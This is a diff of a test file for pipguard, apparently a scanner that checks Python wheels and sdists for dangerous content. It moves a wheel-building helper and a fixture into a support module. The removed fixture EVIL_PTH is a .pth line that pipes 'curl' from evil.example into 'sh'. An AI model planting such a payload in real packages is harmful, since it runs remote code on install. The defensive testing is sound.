@@ -7,67 +7,27 @@ to ``DIR/gate``; ``PIPGUARD_OFFLINE=1`` never downloads). Without them the tests
 """
 from __future__ import annotations
 
-import base64
-import hashlib
 import io
 import json
 import os
-import stat
 import subprocess
 import sys
 import tarfile
-import textwrap
 import zipfile
 from pathlib import Path
-from typing import Dict, Optional, Tuple
+from typing import Dict, Tuple
 
 import pytest
 
 import support
 from support import gatewheels
+from support.wheels import EVIL_PTH, make_wheel
 from support.projects import pyproject
 from pipguard import gate
 from pipguard.errors import PipError, UsageError
 from pipguard.gate import Finding, scan_artifact, scan_sdist, scan_wheel
 
 # --- building wheels ------------------------------------------------------------------------------
-
-
-def _b64(data: bytes) -> str:
-    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).decode().rstrip("=")
-
-
-def make_wheel(directory: Path, files: Dict[str, bytes], name: str = "demo", version: str = "1.0",
-               entry_points: Optional[str] = None, meta_name: Optional[str] = None,
-               unlisted: Dict[str, bytes] = None, tamper: Dict[str, bytes] = None,
-               symlinks: Dict[str, str] = None, record: bool = True) -> Path:
-    """A wheel with a correct RECORD; ``unlisted`` members are left out of RECORD, ``tamper``
-    replaces content after RECORD was computed, ``symlinks`` adds S_IFLNK entries."""
-    info = f"{name}-{version}.dist-info"
-    members = dict(files)
-    members[f"{info}/METADATA"] = (f"Metadata-Version: 2.1\nName: {meta_name or name}\n"
-                                   f"Version: {version}\n\n").encode()
-    members[f"{info}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
-    if entry_points is not None:
-        members[f"{info}/entry_points.txt"] = textwrap.dedent(entry_points).encode()
-    rows = [f"{p},sha256={_b64(d)},{len(d)}" for p, d in members.items()]
-    rows.append(f"{info}/RECORD,,")
-    members.update(tamper or {})
-    path = directory / f"{name}-{version}-py3-none-any.whl"
-    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
-        for p, d in members.items():
-            zf.writestr(p, d)
-        for p, d in (unlisted or {}).items():
-            zf.writestr(p, d)
-        for p, target in (symlinks or {}).items():
-            zi = zipfile.ZipInfo(p)
-            zi.create_system = 3
-            zi.external_attr = (stat.S_IFLNK | 0o777) << 16
-            zf.writestr(zi, target)
-            rows.insert(0, f"{p},sha256={_b64(target.encode())},{len(target)}")
-        if record:
-            zf.writestr(f"{info}/RECORD", "\n".join(rows) + "\n")
-    return path
 
 
 def rules(findings, severity=None):
@@ -117,7 +77,6 @@ def ecosystem_wheels() -> Dict[str, Path]:
 
 # --- rule 1: .pth files ---------------------------------------------------------------------------
 
-EVIL_PTH = b"import os; os.system('curl -s http://evil.example/x | sh')\n"
 SETUPTOOLS_LINE = (b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, "
                    b"'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
 
